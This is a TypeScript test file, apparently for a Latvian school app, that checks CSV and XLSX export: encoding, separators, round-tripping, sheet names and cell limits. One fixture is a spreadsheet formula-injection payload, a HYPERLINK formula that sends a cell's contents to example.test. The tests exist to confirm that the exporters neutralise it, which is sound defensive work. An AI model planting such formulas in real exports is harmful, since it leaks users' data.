import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import { readTable } from './read.ts'
import { writeCsv, writeXlsx } from './write.ts'

const dangerous = '=HYPERLINK("http://example.test/?x="&A1;"Spied")'
const table = [
  ['Vārds', 'Klase', 'Piezīme'],
  ['Šķēle Ģirts', '7.a', 'viņa "mājas"; darbs, 1. daļa\nun otrā'],
  [dangerous, '+371 20000000', '-5'],
  ["'=1", '@x', '2026-09-01'],
]

const sheetOf = async (bytes: Uint8Array) => {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(new Uint8Array(bytes).buffer)
  const sheet = workbook.worksheets[0]
  if (!sheet) throw new Error('no sheet')
  return sheet
}

describe('CSV', () => {
  test('has a byte order mark, semicolons and CRLF', () => {
    const bytes = writeCsv([
      ['Vārds', 'Klase'],
      ['Anna', '7.a'],
    ])
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes)).toBe('Vārds;Klase\r\nAnna;7.a\r\n')
  })

  test('a formula is exported harmless', () => {
    const text = new TextDecoder().decode(writeCsv([[dangerous, '+1', '-1', '@a', '\t=1', 'a=1']]))
    expect(text).toBe(`"'=HYPERLINK(""http://example.test/?x=""&A1;""Spied"")";'+1;'-1;'@a;"'\t=1";a=1\r\n`)
  })

  test('what is written is read back', async () => {
    expect(await readTable(writeCsv(table), 'eksports.csv')).toEqual({ ok: true, sheetName: null, rows: table })
  })

  test('a table of one column with commas is read back', async () => {
    const names = [['Ozola, Anna'], ['Bērzs, Jānis'], ['Kalns']]
    expect(await readTable(writeCsv(names), 'x.csv')).toMatchObject({ rows: names })
  })

  test('no rows are an empty file with a mark', () => {
    expect([...writeCsv([])]).toEqual([0xef, 0xbb, 0xbf])
  })
})

describe('XLSX', () => {
  test('what is written is read back', async () => {
    const bytes = await writeXlsx('Skolēni', table)
    expect(await readTable(bytes, 'eksports.xlsx')).toEqual({ ok: true, sheetName: 'Skolēni', rows: table })
  })

  test('a formula is exported as text', async () => {
    const cell = (await sheetOf(await writeXlsx('S', [['Vārds'], [dangerous]]))).getCell('A2')
    expect([cell.type, cell.formula, cell.value, cell.numFmt]).toEqual([
      ExcelJS.ValueType.String,
      undefined,
      dangerous,
      '@',
    ])
  })

  test('the header is bold and held in place, columns have their widths', async () => {
    const sheet = await sheetOf(await writeXlsx('S', table, { columnWidths: [30, 8] }))
    expect(sheet.getCell('A1').font?.bold).toBe(true)
    expect(sheet.getCell('A2').font?.bold).toBeUndefined()
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect([sheet.getColumn(1).width, sheet.getColumn(2).width]).toEqual([30, 8])
  })

  test.each([
    ['7.a/7.b: [2026]*?\\', '7.a-7.b- -2026----'],
    ['Attālināto mācību stundu uzskaite 2026./2027.', 'Attālināto mācību stundu uzskai'],
    ["'klase'", 'klase'],
    ['', '1'],
  ])('a sheet named %j is called %j', async (name, expected) => {
    expect((await sheetOf(await writeXlsx(name, [['a']]))).name).toBe(expected)
  })

  test('characters that no workbook holds are dropped, and a cell is cut to what one holds', async () => {
    const sheet = await sheetOf(await writeXlsx('S', [['a\u0000b\u001fc\ufffe', 'x'.repeat(40_000)]]))
    expect(sheet.getCell('A1').value).toBe('abc')
    expect(String(sheet.getCell('B1').value)).toHaveLength(32_767)
  })
})
